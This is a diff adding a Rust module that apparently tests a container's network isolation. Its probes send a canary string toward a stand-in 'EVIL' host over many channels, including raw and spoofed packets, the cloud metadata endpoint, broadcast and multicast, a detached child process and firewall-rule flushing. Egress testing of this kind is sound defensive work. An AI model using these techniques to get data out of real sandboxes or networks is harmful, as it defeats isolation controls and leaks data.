@@ -1,0 +1,192 @@
+//! Packets by every way that the kernel has for an ordinary program. What needs privileges stands in [`super::raw`].
+
+use std::io::IoSlice;
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV4, UdpSocket};
+use std::os::fd::AsRawFd;
+use std::process::{Command, Stdio};
+use std::thread;
+use std::time::Duration;
+
+use nix::sys::socket::{
+    MsgFlags, MultiHeaders, SockaddrIn, sendmmsg, sendto, setsockopt, sockopt,
+};
+use rustix::net::{AddressFamily, Protocol, SocketType};
+
+use super::effects::socket;
+use super::{Ctx, Failed, Run, raw, send, target};
+
+const HIGH: u16 = 9999;
+const TCP: u16 = 9000;
+const UDPLITE: u32 = 136;
+
+pub(super) const CODE: &[(&str, Run)] = &[
+    ("ip-tcp", |c| send::tcp((target::EVIL, TCP), c.canary.as_bytes())),
+    ("ip-tcp-ssh", |c| {
+        let mut stream = send::connect((target::EVIL, 22))?;
+        send::hear(&mut stream)?;
+        send::talk(stream, c.canary.as_bytes())
+    }),
+    ("ip-tcp-fast-open", |c| {
+        let fd = socket(AddressFamily::INET, SocketType::STREAM, None)?;
+        let to = SockaddrIn::from(SocketAddrV4::new(target::EVIL, TCP));
+        setsockopt(&fd, sockopt::SendTimeout, &nix::sys::time::TimeVal::new(1, 500_000))?;
+        sendto(fd.as_raw_fd(), c.canary.as_bytes(), &to, MsgFlags::from_bits_retain(nix::libc::MSG_FASTOPEN))?;
+        thread::sleep(send::ANSWER);
+        Ok("sent".to_owned())
+    }),
+    ("ip-tcp-mapped", |c| {
+        let mapped: SocketAddr = (target::EVIL.to_ipv6_mapped(), TCP).into();
+        six(send::tcp(mapped, c.canary.as_bytes()))
+    }),
+    ("ip-udp", |c| send::udp((target::EVIL, HIGH), c.canary.as_bytes())),
+    ("ip-udp-connected", |c| {
+        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
+        socket.connect((target::EVIL, HIGH))?;
+        socket.send(c.canary.as_bytes())?;
+        Ok("sent".to_owned())
+    }),
+    ("ip-udp-many", many),
+    ("ip-udp-mapped", |c| {
+        let socket = six(UdpSocket::bind((Ipv6Addr::UNSPECIFIED, 0)).map_err(Failed::from))?;
+        six(socket.send_to(c.canary.as_bytes(), (target::EVIL.to_ipv6_mapped(), HIGH)).map_err(Failed::from))?;
+        Ok("sent".to_owned())
+    }),
+    ("ip-udp-fragments", |c| {
+        let mut bytes = c.canary.clone().into_bytes();
+        bytes.resize(4000, b'.');
+        send::udp((target::EVIL, HIGH), &bytes)
+    }),
+    ("ip-udp-dns-source", |c| {
+        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 5353))?;
+        socket.send_to(c.canary.as_bytes(), (target::EVIL, 53))?;
+        Ok("sent".to_owned())
+    }),
+    ("ip-quic", |c| {
+        let start = [&[0xc3, 0, 0, 0, 1, 8][..], c.canary.as_bytes()].concat();
+        send::udp((target::EVIL, 443), &start)
+    }),
+    ("ip-ntp", |c| send::udp((target::EVIL, 123), &[&[0x23][..], c.canary.as_bytes()].concat())),
+    ("ip-udplite", |c| {
+        let fd = socket(AddressFamily::INET, SocketType::DGRAM, Some(UDPLITE))?;
+        let to = SockaddrIn::from(SocketAddrV4::new(target::EVIL, HIGH));
+        sendto(fd.as_raw_fd(), c.canary.as_bytes(), &to, MsgFlags::empty())?;
+        Ok("sent".to_owned())
+    }),
+    ("ip-ping", |c| {
+        let fd = rustix::net::socket(AddressFamily::INET, SocketType::DGRAM, Some(rustix::net::ipproto::ICMP))?;
+        let to = SockaddrIn::from(SocketAddrV4::new(target::EVIL, 0));
+        sendto(fd.as_raw_fd(), &crate::fakenet::probe::echo_request(c.canary.as_bytes()), &to, MsgFlags::empty())?;
+        Ok("sent".to_owned())
+    }),
+    ("ip-broadcast", |c| {
+        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
+        socket.set_broadcast(true)?;
+        socket.send_to(c.canary.as_bytes(), (Ipv4Addr::BROADCAST, HIGH))?;
+        Ok("sent".to_owned())
+    }),
+    ("ip-multicast", |c| send::udp((Ipv4Addr::new(239, 9, 9, 9), HIGH), c.canary.as_bytes())),
+    ("ip-metadata", |c| {
+        let request = format!("GET /latest/{} HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", c.canary);
+        send::tcp((target::METADATA, 80), request.as_bytes())
+    }),
+    ("ip-private", |c| send::tcp((target::PRIVATE, TCP), c.canary.as_bytes())),
+    ("ip-carrier", |c| send::tcp((target::CARRIER, TCP), c.canary.as_bytes())),
+    ("ip-sink-directly", |c| send::tcp((c.places.sink, TCP), c.canary.as_bytes())),
+    ("ip-child", |c| {
+        let mut child = Command::new(std::env::current_exe()?);
+        child.args(["later", &c.canary]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
+        child.spawn()?;
+        Ok("left behind".to_owned())
+    }),
+    ("ip6-udp", |c| {
+        let socket = six(UdpSocket::bind((Ipv6Addr::UNSPECIFIED, 0)).map_err(Failed::from))?;
+        let to = SocketAddr::from((IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1)), HIGH));
+        match socket.send_to(c.canary.as_bytes(), to) {
+            Ok(_) => Ok("sent".to_owned()),
+            Err(error) if error.raw_os_error() == Some(nix::libc::ENETUNREACH) => no_six(),
+            Err(error) => six(Err(error.into())),
+        }
+    }),
+    ("ip-other-uid", |c| send::udp((target::EVIL, HIGH), c.canary.as_bytes())),
+    ("ip-root-tcp", |c| send::tcp((target::EVIL, TCP), c.canary.as_bytes())),
+    ("ip-root-flush", |c| {
+        let said = raw::flush_rules();
+        for _ in 0..60 {
+            let _ = later(&c.canary);
+            thread::sleep(Duration::from_millis(5));
+        }
+        Ok(said)
+    }),
+    ("ip-raw-icmp", |c| raw::ip(1, &crate::fakenet::probe::echo_request(c.canary.as_bytes()))),
+    ("ip-raw-udp", |c| raw::ip(17, &raw::udp(c.canary.as_bytes()))),
+    ("ip-raw-gre", |c| raw::ip(47, &[&[0, 0, 8, 0][..], c.canary.as_bytes()].concat())),
+    ("ip-raw-esp", |c| raw::ip(50, &[&[0, 0, 1, 0, 0, 0, 0, 1][..], c.canary.as_bytes()].concat())),
+    ("ip-raw-6in4", |c| raw::ip(41, &raw::ipv6(c.canary.as_bytes()))),
+    ("ip-raw-253", |c| raw::ip(253, c.canary.as_bytes())),
+    ("ip-raw-sctp", |c| raw::ip(132, &[&[0x27, 15, 0x27, 15, 0, 0, 0, 0][..], c.canary.as_bytes()].concat())),
+    ("ip-raw-options", |c| raw::ip_with(17, Ipv4Addr::UNSPECIFIED, &[1, 1, 1, 1], &raw::udp(c.canary.as_bytes()))),
+    ("ip-raw-spoofed", |c| raw::ip_with(17, c.places.envoy, &[], &raw::udp(c.canary.as_bytes()))),
+    ("ip-marked", |c| {
+        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
+        setsockopt(&socket, sockopt::Mark, &0x636c_6177)?;
+        socket.send_to(c.canary.as_bytes(), (target::EVIL, HIGH))?;
+        Ok("sent".to_owned())
+    }),
+    ("ip-packet", |c| raw::frame(&raw::ipv4_frame(&raw::udp(c.canary.as_bytes())))),
+    ("ip-packet-dns", |c| {
+        let message = super::dns::query(&c.name(), 1);
+        raw::frame(&raw::ipv4_frame(&raw::udp_to(53, &message)))
+    }),
+    ("ip-packet-ipv6", |c| raw::frame(&[&[0x86, 0xdd][..], &raw::ipv6(c.canary.as_bytes())].concat())),
+    ("ip-packet-ethertype", |c| raw::frame(&[&[0x88, 0xb5][..], c.canary.as_bytes()].concat())),
+    ("ip-packet-vlan", |c| {
+        raw::frame(&[&[0x81, 0, 0, 7][..], &raw::ipv4_frame(&raw::udp(c.canary.as_bytes()))].concat())
+    }),
+    ("socket-packet", |_| opened(AddressFamily::PACKET, SocketType::RAW, None)),
+    ("socket-raw", |_| opened(AddressFamily::INET, SocketType::RAW, Some(17))),
+    ("socket-alg", |_| opened(AddressFamily::from_raw(38), SocketType::SEQPACKET, None)),
+    ("socket-netfilter", |_| opened(AddressFamily::NETLINK, SocketType::RAW, Some(12))),
+    ("socket-vsock", |_| opened(AddressFamily::from_raw(40), SocketType::STREAM, None)),
+];
+
+/// What a child that was left behind does.
+///
+/// # Errors
+/// The kernel's.
+pub fn later(canary: &str) -> std::io::Result<()> {
+    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
+    socket.send_to(canary.as_bytes(), (target::EVIL, HIGH)).map(drop)
+}
+
+fn many(c: &Ctx) -> Result<String, Failed> {
+    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
+    let to = Some(SockaddrIn::from(SocketAddrV4::new(target::EVIL, HIGH)));
+    let mut headers = MultiHeaders::<SockaddrIn>::preallocate(3, None);
+    let message = [IoSlice::new(c.canary.as_bytes())];
+    let all = [message; 3];
+    let sent = sendmmsg(socket.as_raw_fd(), &mut headers, all.iter(), [to; 3], [], MsgFlags::empty())?;
+    Ok(format!("{} sent", sent.count()))
+}
+
+fn opened(family: AddressFamily, kind: SocketType, protocol: Option<u32>) -> Result<String, Failed> {
+    socket(family, kind, protocol).map(|_| "it is open".to_owned())
+}
+
+/// A kernel without IPv6 has no socket of it.
+fn six<T>(ended: Result<T, Failed>) -> Result<T, Failed> {
+    match ended {
+        Err(Failed::Refused(said)) if said.contains("not supported") || said.contains("Cannot assign") => {
+            Err(Failed::Impossible(said))
+        }
+        other => other,
+    }
+}
+
+fn no_six<T>() -> Result<T, Failed> {
+    Err(Failed::Impossible("this container's network has no IPv6".to_owned()))
+}
+
+/// A protocol's number as a type of its own.
+pub(super) fn protocol(number: u32) -> Option<Protocol> {
+    std::num::NonZeroU32::new(number).map(Protocol::from_raw)
+}
